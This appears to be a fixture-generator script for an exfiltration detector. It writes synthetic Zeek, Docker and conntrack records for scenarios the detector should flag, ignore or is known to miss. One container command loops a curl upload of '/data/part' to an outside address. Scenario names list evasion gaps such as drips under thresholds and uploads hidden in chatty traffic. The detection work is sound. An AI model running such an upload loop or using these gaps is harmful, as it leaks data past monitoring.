// Writes the inputs of the scenarios that are written, not recorded: node scripts/make-scenarios.mjs [FOLDER]
// FOLDER stands for strategies/; the test that compares writes to a temporary one.
//
// Deterministic: a fixed seed per scenario and no clock, so that a second run changes no file. Inside addresses are
// 10.20.0.0/16, outside ones are documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24). Sizes are those of
// real transfers: IP-level bytes hold headers of 52 bytes a packet, and one acknowledgement for every four packets.
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { makeAnsweredScenarios } from './scenarios/answered.mjs';
import { codeLogs } from './scenarios/code-logs.mjs';
import { codeRepository } from './scenarios/code-repository.mjs';
import { makeCovertScenarios } from './scenarios/covert.mjs';
import { makeFloodScenarios } from './scenarios/flood.mjs';
import { makeSshScenarios } from './scenarios/ssh.mjs';
import { makeStagingScenarios } from './scenarios/staging.mjs';
import { makeTlsClientScenarios } from './scenarios/tls-client.mjs';
import { makeWebScenarios } from './scenarios/web.mjs';

const STRATEGIES = process.argv[2] ?? join(dirname(fileURLToPath(import.meta.url)), '..', 'strategies');
const WEB = 'T1567-exfiltration-over-web-service';
const AUTOMATED = 'T1020-automated-exfiltration';

/** 2026-11-10 00:00:00 UTC, a Tuesday. */
const DAY_0 = 1_794_268_800;
const MINUTE = 60;
const HOUR = 3600;
const DAY = 86_400;
const KB = 1000;
const MB = 1_000_000;

/** Numbers that look random and are the same each time (mulberry32). */
function randomFrom(name) {
  let state =
    [...name].reduce((hash, letter) => Math.imul(hash ^ letter.charCodeAt(0), 16_777_619), 2_166_136_261) >>>
    0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

/** Draws for one scenario: `around(x, 0.1)` is x ± 10 %. */
function drawing(name) {
  const random = randomFrom(name);
  const uid = () =>
    `C${Array.from({ length: 16 }, () => '0123456789abcdefghijkmnpqrstuvwx'[Math.floor(random() * 32)]).join('')}`;
  return {
    random,
    around: (value, share) => value * (1 + share * (2 * random() - 1)),
    port: () => 32_768 + Math.floor(random() * 28_000),
    uid,
  };
}

/** One line of Zeek's conn.log. `sent` and `received` are payload bytes of the initiator and the responder. */
function conn(
  draw,
  {
    at,
    from,
    to,
    port = 443,
    service = 'ssl',
    sent,
    received,
    seconds,
    uid = draw.uid(),
    fromPort = draw.port(),
  },
) {
  const [out, back] = [Math.round(sent), Math.round(received)];
  const packetsOut = 6 + Math.ceil(out / 1448) + Math.ceil(back / 1448 / 4);
  const packetsIn = 6 + Math.ceil(back / 1448) + Math.ceil(out / 1448 / 4);
  return {
    ts: Number(at.toFixed(6)),
    uid,
    'id.orig_h': from,
    'id.orig_p': fromPort,
    'id.resp_h': to,
    'id.resp_p': port,
    proto: 'tcp',
    ...(service === '' ? {} : { service }),
    duration: Number((seconds ?? 0.08 + (out + back) / 12_000_000).toFixed(6)),
    orig_bytes: out,
    resp_bytes: back,
    conn_state: 'SF',
    orig_pkts: packetsOut,
    orig_ip_bytes: out + 52 * packetsOut,
    resp_pkts: packetsIn,
    resp_ip_bytes: back + 52 * packetsIn,
  };
}

/** The line of Zeek's http.log for the request of a connection. */
function http(connection, { method, host, uri, sent, received, agent = 'curl/8.5.0' }) {
  return {
    ts: Number((connection.ts + 0.01).toFixed(6)),
    uid: connection.uid,
    'id.orig_h': connection['id.orig_h'],
    'id.orig_p': connection['id.orig_p'],
    'id.resp_h': connection['id.resp_h'],
    'id.resp_p': connection['id.resp_p'],
    trans_depth: 1,
    method,
    host,
    uri,
    version: '1.1',
    user_agent: agent,
    request_body_len: Math.round(sent),
    response_body_len: Math.round(received),
    status_code: 200,
    status_msg: 'OK',
    tags: [],
  };
}

/** A connection and its HTTP request. */
function upload(draw, { method = 'POST', host, uri = '/upload', agent, ...transfer }) {
  const connection = conn(draw, { service: 'http', port: 80, received: 180, ...transfer });
  const body = {
    method,
    host: host ?? transfer.to,
    uri,
    sent: transfer.sent,
    received: 40,
    ...(agent ? { agent } : {}),
  };
  return { connection, request: http(connection, body) };
}

function write(strategy, scenario, name, content) {
  const file = join(STRATEGIES, strategy, 'scenarios', scenario, name);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, content);
}

function writeLines(strategy, scenario, name, rows) {
  const sorted = rows.every((row) => typeof row.ts === 'number')
    ? [...rows].sort((a, b) => a.ts - b.ts)
    : rows;
  write(strategy, scenario, name, sorted.map((row) => `${JSON.stringify(row)}\n`).join(''));
}

function writeUploads(strategy, scenario, uploads) {
  writeLines(
    strategy,
    scenario,
    'conn.log',
    uploads.map((each) => each.connection),
  );
  writeLines(
    strategy,
    scenario,
    'http.log',
    uploads.map((each) => each.request),
  );
}

const range = (count) => Array.from({ length: count }, (_unused, index) => index);

// ---------------------------------------------------------------- containers, as Docker's API tells of them

function containerUid(draw) {
  return Array.from({ length: 64 }, () => Math.floor(draw.random() * 16).toString(16)).join('');
}

const iso = (seconds) => new Date(Math.round(seconds * 1000)).toISOString();

/** GET /containers/ID/json, taken while the container ran. */
function inspectOf({ uid, name, image, labels, ip, startedAt, command }) {
  return {
    Id: uid,
    Created: iso(startedAt - 0.4),
    Path: command[0],
    Args: command.slice(1),
    State: {
      Status: 'running',
      Running: true,
      Paused: false,
      Pid: 4242,
      ExitCode: 0,
      StartedAt: iso(startedAt),
      FinishedAt: '0001-01-01T00:00:00Z',
    },
    Image: `sha256:${'5c'.repeat(32)}`,
    Name: `/${name}`,
    RestartCount: 0,
    HostConfig: {
      NetworkMode: 'shop_default',
      Privileged: false,
      CapAdd: null,
      CapDrop: null,
      AutoRemove: true,
      Binds: null,
    },
    Mounts: [],
    Config: {
      Hostname: uid.slice(0, 12),
      Image: image,
      Env: ['PATH=/usr/bin:/bin'],
      Cmd: command,
      Entrypoint: null,
      Labels: labels,
    },
    NetworkSettings: {
      IPAddress: '',
      Networks: {
        shop_default: {
          IPAddress: ip,
          IPPrefixLen: 16,
          Gateway: '10.20.0.1',
          GlobalIPv6Address: '',
          NetworkID: 'ab'.repeat(32),
        },
      },
    },
  };
}

/** One line of GET /events. */
function engineEvent({ uid, name, image, labels }, action, at) {
  return {
    status: action,
    id: uid,
    from: image,
    Type: 'container',
    Action: action,
    Actor: {
      ID: uid,
      Attributes: { ...labels, image, name, ...(action === 'die' ? { exitCode: '0' } : {}) },
    },
    scope: 'local',
    time: Math.floor(at),
    timeNano: `NANO:${Math.floor(at)}${String(Math.round((at % 1) * 1e6)).padStart(6, '0')}000`,
  };
}

/** timeNano is larger than a double holds, so it is written as text and its quotes are taken off. */
const engineLines = (events) =>
  events.map((event) => `${JSON.stringify(event).replace(/"NANO:(\d+)"/, '$1')}\n`).join('');

/** What the host sensor tells of programs a container starts: [seconds, words of the command] or [seconds, [its arguments]]. */
const processText = ({ uid, name }, starts) =>
  starts
    .map(([at, command], index) => {
      const argv = typeof command === 'string' ? command.split(' ') : command;
      const line = {
        ...{ sensor: 'stowaway', record: 'exec', time: iso(at), monotonic_ns: String((900 + index) * 1e9) },
        ...{
          pid: 5595 + index,
          ppid: 5571,
          uid: 0,
          name: argv[0],
          parent: name,
          container: uid,
          cgroup: '1431',
        },
        ...{ file: `/usr/sbin/${argv[0]}`, file_complete: true, argv, argv_complete: true },
      };
      return `${JSON.stringify(line)}\n`;
    })
    .join('');

/** conntrack -E: start and end of one connection behind NAT. Without `counted`, accounting is off and no line has counters. */
function conntrackLines(draw, { at, seconds, from, to, port, sent, received, counted = true }) {
  const source = draw.port();
  const id = Math.floor(draw.random() * 4_000_000_000);
  const packets = [6 + Math.ceil(sent / 1448), 6 + Math.ceil(sent / 1448 / 4)];
  const tuple = (counter) =>
    `src=${from} dst=${to} sport=${source} dport=${port}${counter[0]} src=${to} dst=192.0.2.1 sport=${port} dport=${source}${counter[1]}`;
  const counters = counted
    ? [
        ` packets=${packets[0]} bytes=${Math.round(sent + 52 * packets[0])}`,
        ` packets=${packets[1]} bytes=${Math.round(received + 52 * packets[1])}`,
      ]
    : ['', ''];
  const end = at + seconds + 2.1;
  return [
    {
      at,
      line: `[${at.toFixed(6)}]\t    [NEW] ipv4     2 tcp      6 120 SYN_SENT ${tuple([' [UNREPLIED]', ''])} id=${id}`,
    },
    {
      at: end,
      line: `[${end.toFixed(6)}]\t[DESTROY] ipv4     2 tcp      6 TIME_WAIT ${tuple(counters)} [ASSURED] delta-time=${Math.round(end - at)} id=${id}`,
    },
  ];
}

const conntrackText = (lines) =>
  lines
    .sort((a, b) => a.at - b.at)
    .map((each) => `${each.line}\n`)
    .join('');

/** Runs of one compose service, each a container of its own with an address of its own, each with one upload. */
function writeJobRuns(strategy, scenario, { runs, service, command, to, port, lifeSeconds }) {
  const draw = drawing(scenario);
  const labels = {
    'com.docker.compose.project': 'shop',
    'com.docker.compose.service': service,
    'com.docker.compose.oneoff': 'True',
  };
  const image = `registry.example/shop/${service}:4`;
  const containers = runs.map(({ at, sent }, index) => ({
    uid: containerUid(draw),
    name: `shop-${service}-run-${(index + 1).toString(16).padStart(4, '0')}`,
    image,
    labels,
    ip: `10.20.1.${10 + index}`,
    startedAt: at,
    command,
    sent,
  }));
  write(strategy, scenario, 'inspect.json', `${JSON.stringify(containers.map(inspectOf), null, 1)}\n`);
  const events = containers.flatMap((each) => [
    engineEvent(each, 'create', each.startedAt - 0.4),
    engineEvent(each, 'start', each.startedAt),
    engineEvent(each, 'die', each.startedAt + lifeSeconds),
    engineEvent(each, 'destroy', each.startedAt + lifeSeconds + 0.2),
  ]);
  write(strategy, scenario, 'engine-events.ndjson', engineLines(events.sort((a, b) => a.time - b.time)));
  const lines = containers.flatMap((each) =>
    conntrackLines(draw, {
      at: each.startedAt + 1.5,
      seconds: 3,
      from: each.ip,
      to,
      port,
      sent: each.sent,
      received: 400,
    }),
  );
  write(strategy, scenario, 'conntrack-events.txt', conntrackText(lines));
}

/** 200 kB an hour to one collector: the ordinary life of a small service. */
function smallService(draw, from, to, hours, startAt) {
  return range(hours * 10).map((index) =>
    conn(draw, {
      at: startAt + index * 6 * MINUTE + draw.random() * 60,
      from,
      to,
      sent: draw.around(20 * KB, 0.3),
      received: draw.around(30 * KB, 0.4),
    }),
  );
}

// ---------------------------------------------------------------- T1567, must fire

function coldStartBulkUpload() {
  const draw = drawing('cold-start');
  const rows = range(4).map((index) =>
    conn(draw, {
      at: DAY_0 + 14 * HOUR + index * 95,
      from: '10.20.0.15',
      to: '203.0.113.20',
      sent: 30 * MB,
      received: 6 * KB,
      seconds: 60,
    }),
  );
  writeLines(WEB, 'fires-on-cold-start-bulk-upload', 'conn.log', rows);
}

function uploadAboveOwnBaseline() {
  const scenario = 'fires-on-upload-above-own-baseline';
  const draw = drawing(scenario);
  const [from, collector] = ['10.20.0.16', '203.0.113.30'];
  writeLines(WEB, scenario, 'baseline/conn.log', smallService(draw, from, collector, 30, DAY_0));
  const now = DAY_0 + 30 * HOUR;
  const rows = smallService(draw, from, collector, 1, now);
  for (const index of range(4)) {
    rows.push(
      conn(draw, {
        at: now + 20 * MINUTE + index * 40,
        from,
        to: '203.0.113.31',
        sent: 10 * MB,
        received: 3 * KB,
        seconds: 22,
      }),
    );
  }
  writeLines(WEB, scenario, 'conn.log', rows);
}

/** A build pushes 180 to 240 MB to one registry when there is something to push: on three days, and `megabytes` on a fourth. */
function irregularPushes(scenario, megabytes) {
  const draw = drawing('irregular-pushes');
  const from = '10.20.0.64';
  const push = (at, size) =>
    conn(draw, { at, from, to: '203.0.113.74', sent: size * MB, received: 9 * KB, seconds: size / 8 });
  const save = (name, hours, start, pushes) =>
    writeLines(
      WEB,
      scenario,
      name,
      [...smallService(draw, from, '203.0.113.75', hours, start), ...pushes].sort((a, b) => a.ts - b.ts),
    );
  const before = [
    push(DAY_0 + 9.3 * HOUR, 180),
    push(DAY_0 + 38.1 * HOUR, 240),
    push(DAY_0 + 63.8 * HOUR, 205),
  ];
  save('baseline/conn.log', 72, DAY_0, before);
  const now = DAY_0 + 84 * HOUR;
  save('conn.log', 2, now, [push(now + 40 * MINUTE, megabytes)]);
}

/** 40 MB go to a place that answers each connection with a tenth more. */
function answeredUpload() {
  const draw = drawing('answered-upload');
  const rows = range(4).map((index) =>
    conn(draw, {
      at: DAY_0 + 9 * HOUR + index * 50,
      from: '10.20.0.65',
      to: '203.0.113.76',
      sent: 10 * MB,
      received: 11 * MB,
      seconds: 30,
    }),
  );
  writeLines(WEB, 'misses-upload-answered-with-as-much', 'conn.log', rows);
}

function oddPort() {
  const draw = drawing('odd-port');
  const transfers = range(3).map((index) =>
    upload(draw, {
      at: DAY_0 + 9 * HOUR + index * 80,
      from: '10.20.0.61',
      to: '203.0.113.71',
      port: 8444,
      sent: 30 * MB,
      seconds: 41,
    }),
  );
  writeUploads(WEB, 'fires-on-http-upload-to-an-odd-port', transfers);
}

function regularUploads() {
  const draw = drawing('regular');
  const transfers = range(8).map((index) =>
    upload(draw, {
      at: DAY_0 + 3 * HOUR + index * 5 * MINUTE + draw.random() * 4,
      from: '10.20.0.62',
      to: '203.0.113.72',
      sent: draw.around(12 * MB, 0.05),
      seconds: 9,
    }),
  );
  writeUploads(WEB, 'fires-on-regular-uploads-to-one-web-server', transfers);
}

function shortLivedContainers() {
  const draw = drawing('short-lived');
  writeJobRuns(WEB, 'fires-on-short-lived-containers-of-one-workload', {
    runs: range(6).map((index) => ({
      at: DAY_0 + 11 * HOUR + index * 140 + draw.random() * 60,
      sent: draw.around(12 * MB, 0.1),
    })),
    service: 'report',
    command: ['/bin/report', '--once'],
    to: '203.0.113.73',
    port: 443,
    lifeSeconds: 30,
  });
}

function fileSharing() {
  const draw = drawing('file-sharing');
  const sent = 6 * MB;
  writeUploads(WEB, 'fires-on-upload-to-a-file-sharing-service', [
    upload(draw, {
      at: DAY_0 + 16 * HOUR,
      from: '10.20.0.63',
      to: '203.0.113.74',
      host: 'transfer.sh',
      uri: '/db.tgz',
      method: 'PUT',
      sent,
      seconds: 7,
    }),
  ]);
}

function threatListed() {
  const scenario = 'fires-on-upload-to-a-threat-listed-address';
  const draw = drawing(scenario);
  writeLines(WEB, scenario, 'conn.log', [
    conn(draw, {
      at: DAY_0 + 17 * HOUR,
      from: '10.20.0.64',
      to: '203.0.113.75',
      sent: 3 * MB,
      received: 2 * KB,
      seconds: 4,
    }),
  ]);
  write(WEB, scenario, 'indicators.txt', '# Written for this scenario\n203.0.113.75\nbad.example.net\n');
}

// ---------------------------------------------------------------- T1567, must stay quiet

function packageDownload() {
  const draw = drawing('packages');
  const rows = range(25).map((index) =>
    conn(draw, {
      at: DAY_0 + 4 * HOUR + index * 9,
      from: '10.20.0.17',
      to: '203.0.113.35',
      sent: draw.around(1200, 0.3),
      received: draw.around(20 * MB, 0.5),
      seconds: 7,
    }),
  );
  writeLines(WEB, 'quiet-package-download', 'conn.log', rows);
}

function backupNights(draw, { from, to, nights, firstNight, bytes, port, service }) {
  return range(nights).flatMap((night) =>
    range(8).map((part) =>
      conn(draw, {
        at: DAY_0 + (firstNight + night) * DAY + 2 * HOUR + 10 * MINUTE + part * 75 + draw.random() * 8,
        from,
        to,
        port,
        service,
        sent: draw.around(bytes / 8, 0.06),
        received: draw.around(9 * KB, 0.2),
        seconds: 62,
      }),
    ),
  );
}

function nightlyBackup() {
  const scenario = 'quiet-nightly-backup-in-its-usual-volume';
  const draw = drawing(scenario);
  const job = { from: '10.20.0.18', to: '203.0.113.40', bytes: 400 * MB };
  const hours = (day, count) =>
    range(count * 24).map((hour) =>
      conn(draw, {
        at: DAY_0 + day * DAY + hour * HOUR + draw.random() * 3000,
        from: job.from,
        to: '203.0.113.41',
        sent: draw.around(9 * KB, 0.3),
        received: draw.around(40 * KB, 0.4),
      }),
    );
  writeLines(WEB, scenario, 'baseline/conn.log', [
    ...backupNights(draw, { ...job, nights: 28, firstNight: 0 }),
    ...hours(0, 28),
  ]);
  writeLines(WEB, scenario, 'conn.log', [
    ...backupNights(draw, { ...job, nights: 1, firstNight: 28 }),
    ...hours(28, 1),
  ]);
}

const sanctionFile = (destination, reason) => `container_cidrs: [10.20.0.0/16]
sanctioned:
  - destination: ${destination}
    workload: '*'
    reason: ${reason}
    owner: ops@example.com
    expires: 2199-12-31
`;

function sanctionedBackup() {
  const scenario = 'quiet-backup-to-sanctioned-destination';
  const draw = drawing(scenario);
  const job = { from: '10.20.0.19', to: '203.0.113.42', bytes: 300 * MB };
  writeLines(WEB, scenario, 'conn.log', backupNights(draw, { ...job, nights: 1, firstNight: 0 }));
  write(
    WEB,
    scenario,
    'stowaway.yaml',
    sanctionFile('203.0.113.42', 'nightly backup to the contracted provider'),
  );
}

function webServer() {
  const draw = drawing('web-server');
  const rows = range(60).map((index) =>
    conn(draw, {
      at: DAY_0 + 10 * HOUR + index * 50 + draw.random() * 20,
      from: `198.51.100.${20 + (index % 40)}`,
      to: '10.20.0.9',
      sent: draw.around(900, 0.3),
      received: draw.around(6 * MB, 0.8),
    }),
  );
  writeLines(WEB, 'quiet-web-server-with-big-answers', 'conn.log', rows);
}

function telemetryAgent() {
  const draw = drawing('telemetry');
  const rows = range(240).map((index) =>
    conn(draw, {
      at: DAY_0 + 8 * HOUR + index * MINUTE + draw.random(),
      from: '10.20.0.22',
      to: '203.0.113.44',
      sent: draw.around(1500, 0.1),
      received: draw.around(900, 0.1),
    }),
  );
  writeLines(WEB, 'quiet-telemetry-agent', 'conn.log', rows);
}

function ordinaryApiUse() {
  const draw = drawing('api-use');
  const rows = range(300).map((index) =>
    conn(draw, {
      at: DAY_0 + 9 * HOUR + draw.random() * 2 * HOUR,
      from: '10.20.0.23',
      to: `203.0.113.${50 + (index % 6)}`,
      sent: draw.around(2600, 0.6),
      received: draw.around(38 * KB, 0.9),
    }),
  );
  writeLines(WEB, 'quiet-ordinary-api-use', 'conn.log', rows);
}

// ---------------------------------------------------------------- T1567, known to be missed

function dripUnderTheFloor() {
  const draw = drawing('drip');
  const rows = range(15).map((index) =>
    conn(draw, {
      at: DAY_0 + Math.floor(index / 5) * DAY + (index % 5) * 4 * HOUR + draw.random() * 3 * HOUR,
      from: '10.20.0.51',
      to: '203.0.113.80',
      sent: draw.around(20 * KB, 0.1),
      received: 900,
    }),
  );
  writeLines(WEB, 'misses-drip-under-the-floor', 'conn.log', rows);
}

function intoSanctionedService() {
  const scenario = 'misses-upload-into-a-sanctioned-service';
  const draw = drawing(scenario);
  const rows = range(4).map((index) =>
    conn(draw, {
      at: DAY_0 + 13 * HOUR + index * 70,
      from: '10.20.0.52',
      to: '203.0.113.81',
      sent: 40 * MB,
      received: 5 * KB,
      seconds: 44,
    }),
  );
  writeLines(WEB, scenario, 'conn.log', rows);
  write(
    WEB,
    scenario,
    'stowaway.yaml',
    sanctionFile('203.0.113.80/28', 'object storage provider used by all teams'),
  );
}

function withoutCounters() {
  const draw = drawing('no-counters');
  const lines = range(5).flatMap((index) =>
    conntrackLines(draw, {
      at: DAY_0 + 12 * HOUR + index * 20,
      seconds: 8,
      from: '10.20.0.53',
      to: '203.0.113.82',
      port: 443,
      sent: 10 * MB,
      received: 400,
      counted: false,
    }),
  );
  write(WEB, 'misses-upload-without-byte-counters', 'conntrack-events.txt', conntrackText(lines));
}

function smallSecret() {
  const draw = drawing('small-secret');
  writeLines(WEB, 'misses-small-secret-over-tls', 'conn.log', [
    conn(draw, {
      at: DAY_0 + 15 * HOUR,
      from: '10.20.0.54',
      to: '203.0.113.83',
      sent: 24 * KB,
      received: 5 * KB,
    }),
  ]);
}

function underThreeTimesUsual() {
  const scenario = 'misses-volume-under-three-times-usual';
  const draw = drawing(scenario);
  const hour = (index, sent, received) =>
    range(30).map((part) =>
      conn(draw, {
        at: DAY_0 + index * HOUR + part * 2 * MINUTE + draw.random() * 5,
        from: '10.20.0.55',
        to: '203.0.113.84',
        sent: draw.around(sent / 30, 0.08),
        received: draw.around(received / 30, 0.08),
        seconds: 80,
      }),
    );
  writeLines(
    WEB,
    scenario,
    'baseline/conn.log',
    range(26).flatMap((index) => hour(index, 20 * MB, 30 * MB)),
  );
  writeLines(WEB, scenario, 'conn.log', hour(26, 42 * MB, 60 * MB));
}

// ---------------------------------------------------------------- T1020, must fire

function repeatedPut() {
  const draw = drawing('repeated-put');
  const transfers = range(40).map((index) =>
    upload(draw, {
      at: DAY_0 + 6 * HOUR + index * 25 + draw.random() * 18,
      from: '10.20.0.33',
      to: '203.0.113.66',
      method: 'PUT',
      uri: `/u/${(0xa1000 + index * 37).toString(16)}`,
      agent: 'Mozilla/5.0',
      sent: draw.around(65 * KB, 0.04),
    }),
  );
  writeUploads(AUTOMATED, 'fires-on-repeated-put', transfers);
}

function jitteredJobs() {
  const draw = drawing('jittered');
  let at = DAY_0 + 1 * HOUR;
  const runs = range(16).map(() => {
    at += draw.around(5 * MINUTE, 0.3);
    return { at, sent: draw.around(150 * KB, 0.04) };
  });
  writeJobRuns(AUTOMATED, 'fires-on-jittered-uploads-of-job-containers', {
    runs,
    service: 'exporter',
    command: ['/bin/exporter', '--once'],
    to: '203.0.113.67',
    port: 443,
    lifeSeconds: 20,
  });
}

/** The container's own command loops; each upload shares its minute with a download twice its size from elsewhere. */
function loopBesideDownloads() {
  const draw = drawing('loop-beside-downloads');
  const scenario = 'fires-on-a-looped-upload-beside-downloads';
  const from = '10.20.0.35';
  const container = {
    uid: containerUid(draw),
    name: 'mirror',
    image: 'registry.example/shop/mirror:2',
    labels: {},
    ip: from,
    startedAt: DAY_0 + 1 * HOUR,
    command: ['sh', '-c', 'while :; do curl -sT /data/part http://203.0.113.90/in; sleep $RANDOM; done'],
  };
  write(AUTOMATED, scenario, 'inspect.json', `${JSON.stringify([inspectOf(container)], null, 1)}\n`);
  const rows = range(5).flatMap((index) => {
    const at = container.startedAt + 10 + index * 11 * MINUTE + draw.random() * 6 * MINUTE;
    return [
      conn(draw, { at, from, to: '203.0.113.90', port: 80, service: 'http', sent: 120 * KB, received: 600 }),
      conn(draw, { at: at + 1, from, to: '203.0.113.150', sent: 2 * KB, received: 240 * KB }),
    ];
  });
  writeLines(AUTOMATED, scenario, 'conn.log', rows);
}

function longTunnel() {
  const draw = drawing('tunnel');
  writeLines(AUTOMATED, 'fires-on-long-tls-tunnel', 'conn.log', [
    conn(draw, {
      at: DAY_0 + 1 * HOUR,
      from: '10.20.0.34',
      to: '203.0.113.88',
      sent: 900 * MB,
      received: 22 * MB,
      seconds: 6 * HOUR,
    }),
  ]);
}

function ftpSession(draw, { at, from, to, files, bytes, isEncrypted }) {
  const control = conn(draw, {
    at,
    from,
    to,
    port: 21,
    service: isEncrypted ? 'ftp,ssl' : 'ftp',
    sent: 420,
    received: 1100,
    seconds: 4 + files * 11,
  });
  const transfers = range(files).map((index) =>
    conn(draw, {
      at: at + 2 + index * 11,
      from,
      to,
      port: 50_100 + Math.floor(draw.random() * 400),
      service: isEncrypted ? 'ssl' : 'ftp-data',
      sent: draw.around(bytes / files, 0.03),
      received: isEncrypted ? 3000 : 0,
      seconds: 9,
    }),
  );
  return [control, ...transfers];
}

function ftpsUpload() {
  const draw = drawing('ftps');
  const rows = ftpSession(draw, {
    at: DAY_0 + 5 * HOUR,
    from: '10.20.0.41',
    to: '203.0.113.21',
    files: 3,
    bytes: 60 * MB,
    isEncrypted: true,
  });
  writeLines(AUTOMATED, 'fires-on-ftps-upload', 'conn.log', rows);
}

function ftpThreatListed() {
  const scenario = 'fires-on-ftp-upload-to-a-threat-listed-address';
  const draw = drawing(scenario);
  writeLines(
    AUTOMATED,
    scenario,
    'conn.log',
    ftpSession(draw, {
      at: DAY_0 + 7 * HOUR,
      from: '10.20.0.42',
      to: '203.0.113.22',
      files: 4,
      bytes: 80 * MB,
    }),
  );
  write(AUTOMATED, scenario, 'indicators.txt', '# Written for this scenario\n203.0.113.22\n');
}

// ---------------------------------------------------------------- T1020, must stay quiet

function healthCheck() {
  const draw = drawing('health');
  const rows = range(360).map((index) =>
    conn(draw, {
      at: DAY_0 + 2 * HOUR + index * 10 + draw.random() * 0.05,
      from: '10.20.0.35',
      to: '203.0.113.90',
      port: 80,
      service: 'http',
      sent: 96,
      received: 210,
    }),
  );
  writeLines(AUTOMATED, 'quiet-health-check', 'conn.log', rows);
}

function metricsScrape() {
  const draw = drawing('scrape');
  const rows = range(240).map((index) =>
    conn(draw, {
      at: DAY_0 + 2 * HOUR + index * 15 + draw.random() * 0.1,
      from: '10.20.0.5',
      to: '10.20.0.36',
      port: 9100,
      service: 'http',
      sent: 310,
      received: draw.around(41 * KB, 0.03),
    }),
  );
  writeLines(AUTOMATED, 'quiet-metrics-scrape', 'conn.log', rows);
}

function ftpBackup() {
  const scenario = 'quiet-ftp-backup-in-its-usual-volume';
  const draw = drawing(scenario);
  const night = (day) =>
    ftpSession(draw, {
      at: DAY_0 + day * DAY + HOUR + draw.random() * 600,
      from: '10.20.0.37',
      to: '203.0.113.23',
      files: 4,
      bytes: draw.around(200 * MB, 0.08),
    });
  writeLines(AUTOMATED, scenario, 'baseline/conn.log', range(8).flatMap(night));
  writeLines(AUTOMATED, scenario, 'conn.log', night(8));
}

function devEnvironment() {
  const scenario = 'quiet-dev-environment-to-sanctioned-destination';
  const draw = drawing(scenario);
  const rows = range(12).map((index) =>
    conn(draw, {
      at: DAY_0 + 9 * HOUR + index * 20 * MINUTE + draw.random() * 30,
      from: '10.20.0.38',
      to: '203.0.113.45',
      sent: draw.around(90 * MB, 0.1),
      received: 12 * KB,
      seconds: 50,
    }),
  );
  writeLines(AUTOMATED, scenario, 'conn.log', rows);
  write(
    AUTOMATED,
    scenario,
    'stowaway.yaml',
    sanctionFile('203.0.113.45', 'artefact store of the development environment'),
  );
}

// ---------------------------------------------------------------- T1020, known to be missed

function randomUploads() {
  const draw = drawing('random');
  let at = DAY_0;
  const rows = range(10).map(() => {
    at += -Math.log(1 - draw.random()) * 2 * HOUR + 60;
    return conn(draw, {
      at,
      from: '10.20.0.56',
      to: '203.0.113.85',
      sent: 900 + draw.random() ** 3 * 50 * KB,
      received: 700,
    });
  });
  writeLines(AUTOMATED, 'misses-random-uploads-under-every-floor', 'conn.log', rows);
}

function hiddenInChatter() {
  const draw = drawing('chatter');
  const [from, to] = ['10.20.0.57', '203.0.113.86'];
  let at = DAY_0;
  const chatter = range(400).map(() => {
    at += -Math.log(1 - draw.random()) * 20;
    return conn(draw, {
      at,
      from,
      to,
      sent: 600 + draw.random() ** 3 * 14 * KB,
      received: draw.around(9 * KB, 0.9),
    });
  });
  const rhythm = range(13).map((index) =>
    conn(draw, { at: DAY_0 + 30 + index * 10 * MINUTE, from, to, sent: 5 * KB, received: 600 }),
  );
  writeLines(AUTOMATED, 'misses-uploads-hidden-in-chatty-traffic', 'conn.log', [...chatter, ...rhythm]);
}

function fewRepeats() {
  const draw = drawing('few');
  const rows = range(5).map((index) =>
    conn(draw, {
      at: DAY_0 + index * DAY + 3 * HOUR,
      from: '10.20.0.58',
      to: '203.0.113.87',
      sent: draw.around(40 * KB, 0.02),
      received: 800,
    }),
  );
  writeLines(AUTOMATED, 'misses-fewer-repeats-than-needed', 'conn.log', rows);
}

function tunnelBelowFloor() {
  const draw = drawing('thin-tunnel');
  writeLines(AUTOMATED, 'misses-tunnel-below-the-floor', 'conn.log', [
    conn(draw, {
      at: DAY_0 + 1 * HOUR,
      from: '10.20.0.59',
      to: '203.0.113.89',
      sent: 5 * MB,
      received: 0.4 * MB,
      seconds: 6 * HOUR,
    }),
  ]);
}

for (const make of [
  coldStartBulkUpload,
  uploadAboveOwnBaseline,
  () => irregularPushes('quiet-irregular-pushes-to-the-usual-registry', 260),
  () => irregularPushes('misses-twice-the-usual-push-to-the-usual-registry', 600),
  () => irregularPushes('fires-on-four-times-the-usual-push-to-the-usual-registry', 900),
  answeredUpload,
  oddPort,
  regularUploads,
  shortLivedContainers,
  fileSharing,
  threatListed,
  packageDownload,
  nightlyBackup,
  sanctionedBackup,
  webServer,
  telemetryAgent,
  ordinaryApiUse,
  dripUnderTheFloor,
  intoSanctionedService,
  withoutCounters,
  smallSecret,
  underThreeTimesUsual,
  repeatedPut,
  jitteredJobs,
  loopBesideDownloads,
  longTunnel,
  ftpsUpload,
  ftpThreatListed,
  healthCheck,
  metricsScrape,
  ftpBackup,
  devEnvironment,
  randomUploads,
  hiddenInChatter,
  fewRepeats,
  tunnelBelowFloor,
])
  make();
makeCovertScenarios({ DAY_0, drawing, conn, http, range, writeLines });
makeFloodScenarios({
  ...{ DAY_0, drawing, http, write },
  ...{ inspectOf, engineEvent, engineLines, containerUid, processText },
});

const tools = { DAY_0, MINUTE, HOUR, DAY, KB, MB, drawing, conn, http, range, write, writeLines };
const engineTools = { ...tools, containerUid, inspectOf, engineEvent, engineLines, processText, iso };
codeRepository(engineTools);
codeLogs(engineTools);
makeStagingScenarios(engineTools);
makeWebScenarios(engineTools);
makeTlsClientScenarios(engineTools);
makeAnsweredScenarios({ ...engineTools, writeJobRuns });
makeSshScenarios(tools);
